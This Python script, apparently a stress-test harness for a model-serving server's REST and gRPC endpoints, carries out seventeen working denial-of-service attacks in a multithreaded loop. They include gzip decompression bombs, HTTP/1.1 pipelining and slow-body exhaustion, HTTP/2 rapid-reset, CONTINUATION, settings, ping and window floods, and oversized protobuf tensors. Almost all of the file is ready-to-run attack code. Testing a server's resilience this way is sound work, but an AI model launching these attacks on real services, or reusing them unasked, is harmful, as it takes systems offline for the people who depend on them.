"""One attack on a server, over and over: attacker.py ATTACK REST GRPC SECONDS

Each takes the addresses of both ports and does its worst once; connections that are refused or ended are its failure,
not its end. What is sent is made once, so that the attacker costs little. `THREADS` attack at a time, each `PAUSE_S`
apart at least: it is about what a little can do, not about who fills the line.
"""

from __future__ import annotations

import contextlib
import functools
import gzip
import select
import socket
import struct
import sys
import threading
import time

import numpy as np

PREDICT = "/v1/models/m:predict"
RPC = "/tensorflow.serving.PredictionService/Predict"
METRICS = "/monitoring/prometheus/metrics"
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4
THREADS = 4
PAUSE_S = 0.25
_ROUND_BYTES = 1 << 18
ANSWER_BYTES = 1 << 12  # more than frames about the connection


def connected(address, receive_bytes=0):
    host, _, port = address.rpartition(":")
    line = socket.socket()
    if receive_bytes:
        line.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_bytes)
    line.settimeout(5)
    line.connect((host, int(port)))
    return line


# over REST


def post(body, *fields):
    head = [f"POST {PREDICT} HTTP/1.1", "Host: x", f"Content-Length: {len(body)}", *fields]
    return "\r\n".join(head).encode() + b"\r\n\r\n" + body


@functools.cache
def gzip_body():
    return post(
        gzip.compress(b'{"instances":[' + b",".join([b"[[[[1]]]]"] * (6 << 20)) + b"]}", 9), "Content-Encoding: gzip"
    )


def gzip_json(rest, grpc):
    """Some kilobytes that unfold to 60 MB of nested JSON."""
    with connected(rest) as line:
        line.settimeout(60)
        line.sendall(gzip_body())
        line.recv(1 << 16)


def pipelined(rest, grpc):
    """Very many requests for the page of metrics in one packet, and gone."""
    with connected(rest) as line:
        line.sendall(f"GET {METRICS} HTTP/1.1\r\nHost: x\r\n\r\n".encode() * 1200)


def never_reads(rest, grpc):
    """Requests whose answers are left where they are."""
    with connected(rest, 4096) as line:
        line.settimeout(2)
        with contextlib.suppress(TimeoutError):
            for _ in range(1000):
                line.sendall(f"GET {METRICS} HTTP/1.1\r\nHost: x\r\n\r\n".encode() * 100)


def unfinished_bodies(rest, grpc):
    """Large bodies whose last byte does not come."""
    body = b" " * (60 << 20)
    lines = []
    try:
        for _ in range(8):
            line = connected(rest)
            lines.append(line)
            with contextlib.suppress(OSError):
                line.sendall(post(body)[:-1])
        select.select([], [], [], 1.0)
    finally:
        for line in lines:
            line.close()


# over HTTP/2


def frame(kind, flags, number, payload=b""):
    return struct.pack(">IBI", len(payload) << 8 | kind, flags, number) + payload


def field(name, value):
    return b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value


HEAD = b"".join(
    field(name, value)
    for name, value in (
        (b":method", b"POST"),
        (b":scheme", b"http"),
        (b":path", RPC.encode()),
        (b"content-type", b"application/grpc"),
        (b"te", b"trailers"),
    )
)


def flood(address, parts, *, reads=True):
    """Send parts of bytes on one connection until it is ended."""
    with connected(address, 0 if reads else 4096) as line:
        line.sendall(PREFACE + frame(SETTINGS, 0, 0))
        for part in parts:
            line.sendall(part)
            while reads and select.select([line], [], [], 0)[0]:
                if not line.recv(1 << 16):
                    return


def numbers():
    return range(1, 1 << 20, 2)


def joined(pieces, size=_ROUND_BYTES):
    """Yield pieces in parts of some size."""
    held, length = [], 0
    for piece in pieces:
        held.append(piece)
        length += len(piece)
        if length >= size:
            yield b"".join(held)
            held, length = [], 0


def settings_flood(rest, grpc):
    """Frames of thousands of settings, each of which moves the windows of a thousand streams."""
    opening = b"".join(frame(HEADERS, END_HEADERS, number, HEAD) for number in range(1, 2000, 2))
    entries = b"".join(struct.pack(">HI", 4, 1 << 16 | n & 1) for n in range(10_000))
    flood(grpc, [opening, *[frame(SETTINGS, 0, 0, entries)] * 100])


def ping_flood(rest, grpc):
    """Nothing but pings."""
    flood(grpc, [frame(PING, 0, 0, bytes(8)) * 10_000] * 20)


def window_flood(rest, grpc):
    """Windows that grow by one, with a thousand streams that wait."""
    opening = b"".join(frame(HEADERS, END_HEADERS, number, HEAD) for number in range(1, 2000, 2))
    flood(grpc, [opening, *[frame(WINDOW_UPDATE, 0, 0, b"\0\0\0\1") * 10_000] * 20])


def priority_flood(rest, grpc):
    """Priorities, which mean nothing any more."""
    flood(grpc, [frame(PRIORITY, 0, 1, bytes(5)) * 10_000] * 20)


def empty_data(rest, grpc):
    """Data without data."""
    flood(grpc, [frame(HEADERS, END_HEADERS, 1, HEAD), *[frame(DATA, 0, 1) * 20_000] * 20])


def rapid_reset(rest, grpc):
    """Calls that are taken back at once."""
    reset = struct.pack(">I", 8)
    pieces = (frame(HEADERS, END_HEADERS, n, HEAD) + frame(RST_STREAM, 0, n, reset) for n in numbers())
    flood(grpc, joined(pieces))


def many_fields(rest, grpc):
    """Heads of 400 fields, each unlike the others."""
    more = field(b"a", b"b") * 390
    pieces = (frame(HEADERS, END_HEADERS | END_STREAM, n, HEAD + field(b"n", b"%07d" % n) + more) for n in numbers())
    flood(grpc, joined(pieces))


def continuations(rest, grpc):
    """Heads in pieces of nothing."""
    pieces = (
        frame(HEADERS, END_STREAM, n)
        + frame(CONTINUATION, 0, n) * 29
        + frame(CONTINUATION, END_HEADERS, n, HEAD + field(b"n", b"%07d" % n))
        for n in numbers()
    )
    flood(grpc, joined(pieces))


def unread_errors(rest, grpc):
    """Calls of a method that is not there, whose refusals are not read."""
    head = HEAD.replace(field(b":path", RPC.encode()), field(b":path", b"/" + b"x" * 120))
    with contextlib.suppress(TimeoutError):
        flood(grpc, joined(frame(HEADERS, END_HEADERS | END_STREAM, n, head) for n in numbers()), reads=False)


# gRPC messages


def called(address, message, packed=False):
    """Make one call with a message, wait until the answer begins, and be gone: no room is given for all of it."""
    body = struct.pack(">BI", packed, len(message)) + message
    head = HEAD + (field(b"grpc-encoding", b"gzip") if packed else b"")
    with connected(address) as line:
        line.settimeout(60)
        line.sendall(PREFACE + frame(SETTINGS, 0, 0) + frame(HEADERS, END_HEADERS, 1, head))
        frames = b"".join(frame(DATA, 0, 1, body[at : at + (1 << 14)]) for at in range(0, len(body), 1 << 14))
        line.sendall(frames + frame(DATA, END_STREAM, 1))
        received = 0
        while received <= ANSWER_BYTES:
            data = line.recv(1 << 16)
            if not data or b"grpc-status" in data:
                return
            received += len(data)


@functools.cache
def predict(kind):
    from glowplug.serve.wire.messages import serving
    from glowplug.serve.wire.tensor_proto import encode

    arrays = {
        "int64": np.arange(3_000_000),
        "string": np.array([b""] * 3_000_000, object),
        "float32": np.zeros(1, np.float32),
    }
    request = serving("PredictRequest")()
    request.model_spec.name = "m"
    request.inputs["x"].CopyFrom(encode(arrays[kind], kind))
    if kind == "float32":
        request.inputs["x"].tensor_shape.dim[0].size = 1 << 24
    return request.SerializeToString()


def many_integers(rest, grpc):
    """A message of millions of numbers, each of which has to be looked at."""
    called(grpc, predict("int64"))


def many_strings(rest, grpc):
    """A message of millions of strings."""
    called(grpc, predict("string"))


def filled_tensor(rest, grpc):
    """A few bytes that stand for 64 MB."""
    called(grpc, predict("float32"))


@functools.cache
def bomb():
    return gzip.compress(bytes(500 << 20), 9)


def gzip_message(rest, grpc):
    """Half a megabyte that unfolds to 500."""
    called(grpc, bomb(), packed=True)


ATTACKS = {
    attack.__name__: attack
    for attack in (
        gzip_json,
        pipelined,
        never_reads,
        unfinished_bodies,
        settings_flood,
        ping_flood,
        window_flood,
        priority_flood,
        empty_data,
        rapid_reset,
        many_fields,
        continuations,
        unread_errors,
        many_integers,
        many_strings,
        filled_tensor,
        gzip_message,
    )
}


# What takes long to make is made before the attack begins.
PREPARED = {
    gzip_json: gzip_body,
    gzip_message: bomb,
    many_integers: functools.partial(predict, "int64"),
    many_strings: functools.partial(predict, "string"),
    filled_tensor: functools.partial(predict, "float32"),
}


def main(name, rest, grpc, seconds):
    prepare = PREPARED.get(ATTACKS[name])
    if prepare is not None:
        prepare()
    print("ready", flush=True)
    end = time.monotonic() + seconds

    def attack():
        while (began := time.monotonic()) < end:
            with contextlib.suppress(OSError):
                ATTACKS[name](rest, grpc)
            time.sleep(max(0.0, began + PAUSE_S - time.monotonic()))

    threads = [threading.Thread(target=attack, daemon=True) for _ in range(THREADS)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


if __name__ == "__main__":
    main(sys.argv[1], sys.argv[2], sys.argv[3], float(sys.argv[4]))
